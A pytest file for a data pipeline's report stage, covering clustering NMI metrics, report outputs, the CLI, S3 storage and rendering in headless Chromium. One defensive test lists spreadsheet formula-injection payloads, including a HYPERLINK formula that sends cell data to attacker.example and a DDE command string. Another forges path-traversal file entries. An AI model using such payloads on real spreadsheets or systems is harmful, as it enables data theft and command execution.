"""Report stage: NMI vs the planted structure of the synthetic corpus, streaming = in memory, outputs, CLI,
shards on s3://, and the HTML page in a real headless Chromium."""

from __future__ import annotations

import base64
import html as html_module
import json
import os
import re
import shutil
import subprocess
import sys

import numpy as np
import pyarrow.parquet as pq
import pytest
import torch

from dataengine import metrics
from dataengine.clustering import ClusteringWriter
from dataengine.embed import EmbedConfig, run_embed
from dataengine.ingest import IngestConfig, run_ingest
from dataengine.metrics import ClusterFlagConfig, normalize_device
from dataengine.report import ReportConfig, row_blocks, run_report, sample_rows, select_clusters
from dataengine.store import open_store
from dataengine.synth import SCANNER_DEVICE, SynthConfig, generate_corpus, read_classes

KINDS = ["hashtag", "user", "gps", "device"]  # what the synthetic YFCC corpus has (no class label)
NUM_CLASSES = 12


@pytest.fixture(scope="module")
def corpus(tmp_path_factory) -> dict:
    """1000 synthetic photos -> shards -> a feature store (tiny model) holding planted and random clusterings."""
    threads = torch.get_num_threads()
    torch.set_num_threads(1)
    root = tmp_path_factory.mktemp("report")
    synth, ingest, store_url = str(root / "synth"), str(root / "ingest"), str(root / "store.zarr")
    generate_corpus(synth, SynthConfig(num_images=1000, num_classes=NUM_CLASSES, seed=1))
    run_ingest(IngestConfig(yfcc=os.path.join(synth, "metadata.tsv"), images=os.path.join(synth, "images"),
                            out=ingest, shard_size=100, workers=0))
    run_embed(EmbedConfig(shards=ingest, out=store_url, model="small", image_size=32, resize_size=36, batch_size=64,
                          chunk_rows=128, workers=0, num_threads=1))
    torch.set_num_threads(threads)
    store = open_store(store_url, mode="r+")
    classes = read_classes(os.path.join(synth, "classes.tsv"))
    names = sorted(set(classes.values()))
    planted = np.array([names.index(classes[int(key)]) for key in store.keys[:].tolist()], dtype=np.int32)
    rng = np.random.default_rng(0)
    clusterings = {"planted": planted, "random": rng.integers(0, NUM_CLASSES, planted.size).astype(np.int32),
                   "planted-relabelled": rng.permutation(NUM_CLASSES).astype(np.int32)[planted]}
    for name, level1 in clusterings.items():
        write_clustering(store, name, [level1 // 4, level1])
    return {"root": root, "synth": synth, "ingest": ingest, "store": store_url, "planted": planted,
            "class_names": names}


def write_clustering(store, name: str, levels: list[np.ndarray], complete: bool = True, **attrs) -> None:
    """What `dataengine cluster` leaves: one int32 id per row and level, attributes written last."""
    writer = ClusteringWriter(store, name)
    writer.remove()
    for level, ids in enumerate(levels):
        writer.create_assignments(level, 300)
        writer.write_assignments(level, 0, ids)
    if complete:
        writer.finish({"config": {"levels": [int(ids.max()) + 1 for ids in levels]}, **attrs})


@pytest.fixture(scope="module")
def full_report(corpus):
    """A report with photo grids and two compared clusterings."""
    out = str(corpus["root"] / "full")
    config = ReportConfig(store=corpus["store"], clustering="planted", compare=("planted-relabelled", "random"),
                          out=out, block_rows=256)
    return run_report(config), out


def report_config(corpus, tmp_path, **kwargs) -> ReportConfig:
    values = dict(store=corpus["store"], clustering="planted", out=str(tmp_path / "out"), thumbnails=False)
    return ReportConfig(**{**values, **kwargs})


# ------------------------------------------------------------------------------------------------- figures


def test_planted_clustering_is_above_chance_and_random_is_at_chance(corpus, full_report, tmp_path):
    planted, _ = full_report
    random = run_report(report_config(corpus, tmp_path, clustering="random"))
    assert planted.kinds == KINDS and list(planted.nmi) == KINDS and list(random.nmi) == KINDS
    for kind in KINDS:
        found, noise = planted.nmi[kind], random.nmi[kind]
        assert found.nmi > found.chance_nmi + 0.15, (kind, found)
        assert abs(noise.nmi - noise.chance_nmi) < 0.03, (kind, noise)
        assert found.coverage == noise.coverage and 0.5 < found.coverage <= 1.0
        assert noise.near_chance and not found.near_chance and found.ami > 0.1 > abs(noise.ami)
        assert found.average_method == "geometric" and found.nmi == found.nmi_geometric >= found.nmi_arithmetic
    assert planted.nmi["user"].coverage == 1.0 and planted.nmi["gps"].coverage < 1.0  # photos without GPS
    page = open(random.html, encoding="utf-8").read()
    assert "is within noise of its chance level" in page
    assert "is within noise of its chance level" not in open(planted.html, encoding="utf-8").read()
    arithmetic = run_report(report_config(corpus, tmp_path / "a", nmi_average="arithmetic"))
    for kind in KINDS:
        assert arithmetic.nmi[kind].nmi == pytest.approx(planted.nmi[kind].nmi_arithmetic, abs=1e-12)
    with pytest.raises(ValueError, match="nmi_average"):
        report_config(corpus, tmp_path, nmi_average="harmonic")


def test_streaming_blocks_equal_the_in_memory_metrics(corpus, full_report, tmp_path):
    """Odd blocks of store codes give the NMI of the metrics encoders applied to metadata.parquet's strings."""
    small = run_report(report_config(corpus, tmp_path, block_rows=97))
    whole, _ = full_report  # blocks of 256 rows, other clusterings beside it
    table = pq.read_table(os.path.join(corpus["ingest"], "metadata.parquet"))
    labels = {"hashtag": metrics.hashtag_labels(table["tags"])[0],
              "user": metrics.categorical_codes(table["user"])[0],
              "gps": metrics.gps_cells(table["lat"], table["lon"]),
              "device": metrics.device_labels(table["device"])[0]}
    planted = corpus["planted"]
    for level, ids in ((0, planted // 4), (1, planted)):
        expected = metrics.metadata_nmi(ids, labels)
        for kind in KINDS:
            got = small.level_nmi[level][kind]
            assert got.nmi == pytest.approx(expected[kind].nmi, rel=1e-9, abs=1e-12)
            assert (got.rows_used, got.rows_total, got.num_labels) == (
                expected[kind].rows_used, expected[kind].rows_total, expected[kind].num_labels)
            assert got == whole.level_nmi[level][kind]  # block size changes nothing, chance level included
    sizes = metrics.size_stats(np.bincount(planted))
    assert small.size_stats == sizes and small.level == 1 and small.levels == [0, 1]


def test_level_choice_and_compared_clusterings(corpus, tmp_path):
    coarse = run_report(report_config(corpus, tmp_path, level=0, compare=("random", "planted-relabelled")))
    assert coarse.level == 0 and coarse.num_clusters == 3
    assert coarse.nmi == coarse.level_nmi[0]
    assert [(s["clustering"], s["level"]) for s in coarse.sequence] == [
        ("planted", 0), ("random", 0), ("planted-relabelled", 0)]
    pairs = {(p["a"], p["b"]): p["nmi"] for p in coarse.pairs}
    # Consecutive pairs along the sequence, then the first against the rest.
    assert list(pairs) == [("planted/level0", "random/level0"), ("random/level0", "planted-relabelled/level0"),
                           ("planted/level0", "planted-relabelled/level0")]
    assert pairs["planted/level0", "planted-relabelled/level0"] < 1.0  # relabelled classes regroup differently
    assert pairs["planted/level0", "random/level0"] < 0.05
    summary = json.loads(json.dumps(coarse.summary()))
    assert set(summary["nmi"]) == set(KINDS) and set(summary["nmi"]["user"]) == {"nmi", "chance", "ami", "near_chance", "coverage"}
    assert summary["html"] == coarse.html and os.path.exists(summary["html"])


def test_unassigned_rows_and_empty_clusters(corpus, tmp_path):
    """Rows invalid at embedding (-1) count only towards coverage; k recorded by the clustering counts empties."""
    store = open_store(corpus["store"], mode="r+")
    sparse = corpus["planted"] * 2  # odd ids stay empty
    sparse[:10] = -1
    write_clustering(store, "sparse", [np.where(sparse >= 0, sparse // 8, -1), sparse],
                     summary={"num_clusters": [3, 2 * NUM_CLASSES]})
    result = run_report(report_config(corpus, tmp_path, clustering="sparse"))
    assert (result.size_stats.num_clusters, result.size_stats.num_empty) == (2 * NUM_CLASSES, NUM_CLASSES)
    user = result.nmi["user"]
    assert (user.rows_total, user.rows_used) == (sparse.size, sparse.size - 10)
    assert result.num_clusters == NUM_CLASSES and sum(s.size for s in result.selected) <= sparse.size - 10
    # Rows without a cluster are said loudly: in the result, report.json and the page.
    expected = [f"sparse/level{level}: 10 of {sparse.size} rows have no cluster (coverage {1 - 10 / sparse.size:.4f}), "
                "10 of them valid rows: the clustering is incomplete" for level in (0, 1)]
    assert result.warnings == expected and result.summary()["warnings"] == expected
    assert json.load(open(result.report_json))["warnings"] == expected
    assert html_module.escape(expected[1]) in open(result.html).read()
    assert not run_report(report_config(corpus, tmp_path, clustering="planted")).warnings


def test_outputs_are_complete_and_self_contained(corpus, full_report):
    result, out = full_report
    report = json.load(open(os.path.join(out, "report.json")))
    assert report["format"] == "dataengine.report" and report["kinds"] == KINDS
    assert report["nmi"]["user"]["nmi"] == pytest.approx(result.nmi["user"].nmi)
    assert set(report["level_nmi"]) == {"0", "1"} and len(report["sequence"]) == 3
    pairs = {(p["a"], p["b"]): p["nmi"] for p in report["pairs"]}
    assert pairs["planted/level1", "planted-relabelled/level1"] == pytest.approx(1.0)  # same partition
    assert report["sizes"]["num_clusters"] == NUM_CLASSES and report["sizes"]["gini"] > 0
    plots = ["plots/cluster_sizes.png", "plots/nmi.png", "plots/nmi_sequence.png"]
    assert report["plots"] == sorted(plots)
    for name in plots:
        assert open(os.path.join(out, name), "rb").read(8) == b"\x89PNG\r\n\x1a\n"
    with open(os.path.join(out, "clusters.csv")) as handle:
        lines = handle.read().splitlines()
    assert lines[0].startswith("cluster,size,landmark,single_user,device,hashtag_purity")
    assert len(lines) == 1 + NUM_CLASSES
    page = open(result.html, encoding="utf-8").read()
    sources = re.findall(r'<img[^>]*\ssrc="([^"]*)"', page)
    assert len(sources) == len(plots) + len(result.selected) and all(s.startswith("data:image/") for s in sources)
    assert not re.search(r"(src|href)=\"(?!data:)", page) and "http://" not in page and "https://" not in page
    for source in sources:  # the inlined images are the files kept beside the page
        assert base64.b64decode(source.split(",", 1)[1])[:2] in (b"\x89P", b"\xff\xd8")
    for line in ("chance NMI", "coverage", "Cluster-size", "Gini"):
        assert line.lower() in page.lower()


def test_selected_clusters_show_their_own_photos_with_captions(corpus, full_report):
    result, out = full_report
    planted, names = corpus["planted"], corpus["class_names"]
    reasons = {reason: s for s in result.selected for reason in s.reasons}
    assert {"largest", "head tag", "tail tag"} <= set(reasons) and {f"purest {k}" for k in KINDS} <= set(reasons)
    largest = reasons["largest"]
    assert largest.size == np.bincount(planted).max() and largest.cluster == np.bincount(planted).argmax()
    # The scanner photographs the "drawing" class: a device cluster whose caption names the scanner.
    scanner = reasons["device cluster"]
    assert names[scanner.cluster] == "drawing" and "device" in scanner.flags
    assert scanner.dominant["device"]["value"] == normalize_device(SCANNER_DEVICE)
    assert scanner.dominant["device"]["purity"] == 1.0
    report = json.load(open(os.path.join(out, "report.json")))
    landmarks = [s["cluster"] for s in report["selected"] if "landmark" in s["flags"]]
    assert len(landmarks) == min(report["flags"]["landmark"], 3)
    page = open(result.html, encoding="utf-8").read()
    for chosen in result.selected:
        assert len(chosen.rows) == 9 and len(set(chosen.rows)) == 9
        assert (planted[chosen.rows] == chosen.cluster).all()  # nine photos of that very cluster
        assert open(os.path.join(out, chosen.grid), "rb").read(2) == b"\xff\xd8"
        assert f"<b>cluster {chosen.cluster}</b>" in page
        assert f"user: {chosen.dominant['user']['value']}" in page
        gps = chosen.dominant["gps"]
        assert gps["labelled"] == 0 or re.fullmatch(r"lat -?\d+\.\.-?\d+, lon -?\d+\.\.-?\d+", gps["value"])
    assert not result.thumbnail_failures


def test_photo_draw_is_seeded(corpus, full_report, tmp_path):
    result, _ = full_report
    other = run_report(report_config(corpus, tmp_path, thumbnails=True, seed=1))
    assert [s.cluster for s in other.selected] == [s.cluster for s in result.selected]  # the choice is not random
    assert [s.rows for s in other.selected] != [s.rows for s in result.selected]
    # The same seed draws the same photos: see test_store_shards_and_report_on_s3.


# ------------------------------------------------------------------------------------------ selection units


def test_select_clusters_rules():
    # Cluster 0: largest, many users in one GPS cell (landmark), mostly the corpus' most frequent tag (head).
    # 1: one user, one rare tag (tail). 2: one device, many users. 3: tiny and perfectly pure, but below
    # min_size: never chosen.
    clusters = np.repeat([0, 1, 2, 3], [60, 30, 30, 5])
    users = np.concatenate([np.arange(60) % 12, np.full(30, 20), np.arange(30) % 10 + 30, np.full(5, 50)])
    gps = np.concatenate([np.full(60, 7), np.arange(30), np.arange(30) + 100, np.full(5, 1)])
    devices = np.concatenate([np.arange(60) % 6, np.arange(30) % 5, np.full(30, 9), np.full(5, 3)])
    tags = np.concatenate([np.where(np.arange(60) % 4, 4, 3), np.full(30, 0), np.arange(30) % 3, np.full(5, 2)])
    profiles = metrics.cluster_profiles(clusters, {"hashtag": tags, "user": users, "gps": gps, "device": devices})
    tag_counts = np.array([30, 40, 50, 60, 70])  # code = rarity rank: tag 4 is the most frequent
    chosen = select_clusters(profiles, tag_counts, flags=ClusterFlagConfig(), max_landmarks=3)
    assert chosen == {0: ["largest", "purest gps", "landmark", "head tag"], 1: ["purest hashtag", "purest user",
                      "tail tag"], 2: ["purest device", "device cluster"]}
    assert select_clusters(profiles, None, flags=ClusterFlagConfig(), max_landmarks=0)[0] == ["largest", "purest gps"]


def test_sample_rows_is_seeded_per_cluster_and_blockwise():
    ids = np.random.default_rng(3).integers(0, 5, 1000)
    sizes = {c: int((ids == c).sum()) for c in range(5)}
    one = sample_rows(ids, {1: 9, 3: 9}, sizes, seed=0, blocks=row_blocks(ids.size, 64))
    two = sample_rows(ids, {3: 9}, sizes, seed=0, blocks=row_blocks(ids.size, 1000))
    assert one[3] == two[3] and len(one[1]) == 9 and one[1] == sorted(set(one[1]))
    assert (ids[one[1]] == 1).all() and (ids[one[3]] == 3).all()
    assert sample_rows(ids, {2: 9}, sizes, seed=1, blocks=row_blocks(1000, 64))[2] != \
        sample_rows(ids, {2: 9}, sizes, seed=0, blocks=row_blocks(1000, 64))[2]
    tiny = np.array([0, 1, 1, 0, 1])
    assert sample_rows(tiny, {0: 9}, {0: 2}, seed=0, blocks=[(0, 5)]) == {0: [0, 3]}


def same_partition(a: np.ndarray, b: np.ndarray) -> bool:
    """Equal missing rows and a one-to-one correspondence between the codes of the others."""
    present = a >= 0
    pairs = set(zip(a[present].tolist(), b[present].tolist()))
    return bool((present == (b >= 0)).all()) and len(pairs) == len(set(a[present])) == len(set(b[present]))


def test_store_labels_follow_the_metrics_encoders(tmp_path):
    """Store codes of every kind (label included) map onto the metrics encoders' partitions, in any blocks."""
    import pyarrow as pa

    from dataengine.metrics.store import StoreLabels
    from dataengine.store import StoreLayout, create_store, write_keys_and_metadata

    table = pa.table({
        "key": [str(i) for i in range(8)],
        "user": ["a", "b", None, "", "a", "c", "b", None],
        "device": ["Canon  EOS", "canon eos", " ", None, "Nikon", "NIKON ", "x", "Canon EOS"],
        "label": ["cat", "dog", "cat", None, "dog", "cat", "bird", ""],
        "tags": [["sun", "sky"], [], None, ["sky"], ["sky", "sea"], ["sea", "sun", "sky"], [""], ["moon"]],
        "lat": [48.5, None, 10.0, -33.9, 48.9, 91.0, 10.2, 0.0],
        "lon": [2.3, 1.0, 20.0, 151.2, 2.1, 0.0, 20.9, 0.0]})
    store = create_store(str(tmp_path / "s.zarr"), None, StoreLayout(num_rows=8, dim=2, dtype="float16",
                                                                      chunk_rows=8), {})
    store.write_attrs("", {"metadata_columns": write_keys_and_metadata(store, table)})
    labels = StoreLabels(store)
    labels.count_tags(row_blocks(8, 3))
    got = {kind: np.concatenate([labels.block(s, e)[kind] for s, e in row_blocks(8, 3)]) for kind in labels.kinds}
    expected = {"hashtag": metrics.hashtag_labels(table["tags"])[0],
                "user": metrics.categorical_codes(table["user"])[0],
                "gps": metrics.gps_cells(table["lat"], table["lon"]),
                "device": metrics.device_labels(table["device"])[0],
                "label": metrics.categorical_codes(table["label"])[0]}
    assert labels.kinds == ["hashtag", "user", "gps", "device", "label"]
    for kind in labels.kinds:
        assert same_partition(got[kind], expected[kind]), kind
    assert got["device"][0] == got["device"][1] == got["device"][7] and got["device"][4] == got["device"][5]
    assert [labels.describe(kind, int(got[kind][0])) for kind in labels.kinds] == [
        "sun", "a", "lat 48..49, lon 2..3", "canon eos", "cat"]
    assert labels.describe("gps", -1) == "-" and got["gps"][5] == -1  # latitude 91 is no position


def test_clusters_csv_cells_never_run_as_formulas(tmp_path, metadata_store):
    """Metadata text starting with = + - @ tab or CR is quoted for spreadsheets; numbers stay numbers."""
    import csv

    import pyarrow as pa

    from dataengine.report.outputs import spreadsheet_safe

    hostile = ['=HYPERLINK("http://attacker.example/?d="&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3",
               "@SUM(1+1)", "\tTAB", "\rCR", "-5", "-1.5e3", "plain", "a=b", "two\rlines\nhere"]
    table = pa.table({"key": [str(i) for i in range(len(hostile))], "user": hostile})
    metadata_store(str(tmp_path / "s.zarr"), table, {"c": [np.arange(len(hostile))]})  # one cluster per user
    out = tmp_path / "out"
    run_report(ReportConfig(store=str(tmp_path / "s.zarr"), clustering="c", out=str(out), thumbnails=False))
    with open(out / "clusters.csv", newline="") as handle:
        rows = list(csv.DictReader(handle))
    quoted = ["'" + value for value in hostile[:6]]
    assert [row["user_dominant"] for row in rows] == [*quoted, "-5", "-1.5e3", "plain", "a=b", "two\rlines\nhere"]
    assert [row["cluster"] for row in rows] == [str(c) for c in range(len(hostile))]
    assert [row["user_purity"] for row in rows] == ["1"] * len(hostile)
    assert spreadsheet_safe(-3) == -3 and spreadsheet_safe(-0.25) == -0.25 and spreadsheet_safe("") == ""


def test_a_report_replaces_another_reports_files_and_nothing_else(corpus, tmp_path):
    """Another clustering's report in the folder: its grids go, the user's own files stay, and a forged
    report.json cannot name files outside the report's folders."""
    out = tmp_path / "out"
    first = run_report(ReportConfig(store=corpus["store"], clustering="planted", out=str(out), block_rows=256))
    (out / "notes.txt").write_text("mine")
    (out / "grids" / "my-photo.png").write_bytes(b"mine")
    second = run_report(ReportConfig(store=corpus["store"], clustering="random", out=str(out), block_rows=256))
    old, new = {s.grid for s in first.selected}, {s.grid for s in second.selected}
    assert old and new and not old & new
    assert sorted(os.listdir(out / "grids")) == sorted([*(name.split("/")[1] for name in new), "my-photo.png"])
    report = json.loads((out / "report.json").read_text())
    assert report["files"] == sorted(new | set(report["plots"])) and (out / "notes.txt").read_text() == "mine"
    outside = tmp_path / "outside.jpg"
    outside.write_bytes(b"mine")
    forged = dict(report, files=["../outside.jpg", "grids/../../outside.jpg", "/etc/hostname", "notes.txt"])
    (out / "report.json").write_text(json.dumps(forged))
    run_report(report_config(corpus, tmp_path, out=str(out)))
    assert outside.read_bytes() == b"mine" and (out / "notes.txt").exists()


# --------------------------------------------------------------------------------------------------- errors


def test_bad_input_is_named(corpus, tmp_path):
    with pytest.raises(KeyError, match=r"no complete clustering 'nope' .* present: \[.*'planted-relabelled'"):
        run_report(report_config(corpus, tmp_path, clustering="nope"))
    with pytest.raises(ValueError, match="level 2 is not among them"):
        run_report(report_config(corpus, tmp_path, level=2))
    with pytest.raises(ValueError, match="distinct clusterings"):
        report_config(corpus, tmp_path, compare=("planted",))
    with pytest.raises(ValueError, match="gps_cell_deg"):
        report_config(corpus, tmp_path, gps_cell_deg=0)
    store = open_store(corpus["store"], mode="r+")
    write_clustering(store, "unfinished", [corpus["planted"]], complete=False)
    with pytest.raises(KeyError, match="no complete clustering 'unfinished'"):
        run_report(report_config(corpus, tmp_path, clustering="unfinished"))


def test_thumbnails_need_the_stores_own_ingest(corpus, tmp_path):
    with pytest.raises(FileNotFoundError, match="--no-thumbnails"):
        run_report(report_config(corpus, tmp_path, thumbnails=True, shards=str(tmp_path / "nowhere")))
    other = str(tmp_path / "other")
    shutil.copytree(corpus["ingest"], other)
    with open(os.path.join(other, "manifest.json"), "a") as handle:
        handle.write("\n")  # another manifest: another digest
    with pytest.raises(ValueError, match="is not the ingest output"):
        run_report(report_config(corpus, tmp_path, thumbnails=True, shards=other))
    assert not os.path.exists(tmp_path / "out")  # failed before computing or writing anything


# ------------------------------------------------------------------------------------------ CLI and s3://


def test_cli_prints_the_table_and_a_json_line(corpus, tmp_path):
    out = str(tmp_path / "cli")
    process = subprocess.run(
        [sys.executable, "-m", "dataengine", "report", corpus["store"], "--clustering", "planted", "--compare",
         "random", "--out", out, "--level", "1", "--no-thumbnails", "--json"],
        capture_output=True, text=True, timeout=120)
    assert process.returncode == 0, process.stderr
    summary = json.loads(process.stdout.strip().splitlines()[-1])
    assert set(summary["nmi"]) == set(KINDS) and summary["html"] == os.path.join(out, "index.html")
    assert summary["nmi"]["user"]["nmi"] > summary["nmi"]["user"]["chance"] + 0.15
    assert "chance NMI" in process.stderr and "coverage" in process.stderr
    bad = subprocess.run([sys.executable, "-m", "dataengine", "report", corpus["store"], "--clustering", "nope",
                          "--out", out], capture_output=True, text=True, timeout=120)
    assert bad.returncode == 2 and "no complete clustering 'nope'" in bad.stderr


def test_store_shards_and_report_on_s3(corpus, full_report, s3_server, s3_bucket):
    import s3fs

    fs = s3fs.S3FileSystem(**s3_server)
    fs.put(corpus["ingest"], f"{s3_bucket}/ingest", recursive=True)
    fs.put(corpus["store"], f"{s3_bucket}/store.zarr", recursive=True)
    result = run_report(ReportConfig(store=f"{s3_bucket}/store.zarr", clustering="planted", out=f"{s3_bucket}/report",
                                     shards=f"{s3_bucket}/ingest", storage_options=s3_server, max_landmarks=1))
    local, _ = full_report
    assert result.nmi == local.nmi and result.html == f"{s3_bucket}/report/index.html"
    assert {s.cluster: s.rows for s in result.selected} == {
        s.cluster: s.rows for s in local.selected if s.cluster in {c.cluster for c in result.selected}}
    assert not result.thumbnail_failures and fs.exists(f"{s3_bucket}/report/report.json")
    page = fs.cat_file(f"{s3_bucket}/report/index.html").decode()
    assert page.count('src="data:image/jpeg;base64,') == len(result.selected)


# ----------------------------------------------------------------------------------------- real browser

PROBE = """<script>
window.__problems = [];
addEventListener("error", e => __problems.push(
  "error: " + (e.message || (e.target && e.target.src || "").slice(0, 60))), true);
addEventListener("securitypolicyviolation", e => __problems.push("csp: " + e.blockedURI));
for (const level of ["error", "warn"]) {
  const original = console[level];
  console[level] = (...args) => { __problems.push(level + ": " + args.join(" ")); original.apply(console, args); };
}
addEventListener("load", () => {
  const images = [...document.images];
  const status = {images: images.length, problems: __problems,
                  broken: images.filter(i => !(i.complete && i.naturalWidth > 0)).map(i => i.alt)};
  const node = document.createElement("pre");
  node.id = "probe-status";
  node.textContent = JSON.stringify(status);
  document.body.appendChild(node);
});
</script>"""


def chromium() -> str | None:
    for name in ("chromium", "chromium-browser", "google-chrome"):
        path = shutil.which(name)
        if path:
            return path
    return None


@pytest.mark.skipif(chromium() is None, reason="Chromium is not installed (CI installs it with apt-get)")
def test_html_opens_in_headless_chromium_without_errors(full_report, tmp_path):
    result, out = full_report
    page = open(result.html, encoding="utf-8").read()
    # The probe goes first in <head>, before the page's CSP (which would forbid it), and reports into the DOM.
    probed = tmp_path / "probed.html"
    probed.write_text(page.replace("<head>", "<head>" + PROBE, 1), encoding="utf-8")
    command = [chromium(), "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
               "--disable-background-networking", "--disable-component-update", "--disable-sync",
               f"--user-data-dir={tmp_path / 'profile'}", "--enable-logging=stderr", "--v=0",
               "--virtual-time-budget=5000", "--dump-dom", probed.as_uri()]
    process = subprocess.run(command, capture_output=True, text=True, timeout=90)
    found = re.search(r'<pre id="probe-status">(.*?)</pre>', process.stdout)
    assert found, f"no probe status in the dumped DOM; stderr: {process.stderr[-2000:]}"
    status = json.loads(found.group(1).replace("&quot;", '"').replace("&amp;", "&"))
    assert status["problems"] == [] and status["broken"] == []
    assert status["images"] == len(re.findall(r"<img ", page)) == 3 + len(result.selected)
    console = [line for line in process.stderr.splitlines() if "CONSOLE" in line]
    assert console == []
